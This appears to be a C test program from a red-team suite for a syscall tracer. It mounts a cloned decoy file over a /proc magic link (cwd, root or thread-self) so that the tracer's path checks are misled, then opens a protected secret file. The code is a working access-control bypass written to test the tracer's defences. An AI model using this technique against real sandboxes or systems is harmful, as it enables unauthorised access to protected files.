/* ns_proclink.c: a file mounted over a /proc magic link the tracer reads (issue 11, red
 * team 22).
 *
 * The tracer learns where a task stands from /proc/TID/cwd, /proc/TID/root and
 * /proc/TID/fd/N, and refuses any mount on "/" or /proc in its own mount namespace --
 * but not one on a symlink ("on which the kernel mounts nothing").  move_mount without
 * MOVE_MOUNT_T_SYMLINKS does not follow its target's last symlink: it mounts on the link
 * itself, and a magic link of /proc is a symlink.  A root program in the tracer's namespace
 * mounts a copy of a permitted file (open_tree(OPEN_TREE_CLONE) of the decoy) over its own
 * /proc/PID/cwd (or root), then opens the secret by a name relative to its cwd (or root).
 *
 *   ns_proclink cwd SECD DECOY    over /proc/self/cwd; chdir(SECD); open("secret.txt")
 *   ns_proclink root SECD DECOY   over /proc/self/root; open(SECD "/secret.txt")
 *   ns_proclink thread SECD DECOY over /proc/thread-self/cwd; chdir(SECD); open("secret.txt")
 *
 * Run it in a mount namespace of its own (the test does: unshare -m around systrace), so
 * that the mounts end with it.
 */
#include "attack.h"

#include <sys/mount.h>

#ifndef MOVE_MOUNT_F_EMPTY_PATH
#define MOVE_MOUNT_F_EMPTY_PATH 0x00000004
#endif
#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif

int main(int argc, char **argv) {
    if (argc != 4)
        usage("ns_proclink cwd|root|thread SECD DECOY");
    const char *how = argv[1], *secd = argv[2], *decoy = argv[3];
    const char *link = strcmp(how, "root") == 0 ? "/proc/self/root"
                       : strcmp(how, "thread") == 0 ? "/proc/thread-self/cwd" : "/proc/self/cwd";
    int tree = (int)syscall(SYS_open_tree, AT_FDCWD, decoy, OPEN_TREE_CLONE | O_CLOEXEC);
    if (tree < 0) {
        if (errno == ENOSYS)
            skipped("no open_tree");
        blocked("open_tree of the decoy: %s", ename(errno));
    }
    if (syscall(SYS_move_mount, tree, "", AT_FDCWD, link, MOVE_MOUNT_F_EMPTY_PATH) != 0)
        blocked("move_mount over %s: %s", link, ename(errno));
    printf("note: mounted the decoy over %s\n", link);
    if (strcmp(how, "root") == 0) {
        char path[4096];
        snprintf(path, sizeof path, "%s/secret.txt", secd);
        try_open("open by its whole name", path);
    } else {
        if (chdir(secd) != 0)
            blocked("chdir: %s", ename(errno));
        try_open("open relative to the cwd", "secret.txt");
    }
    tally_done();
}
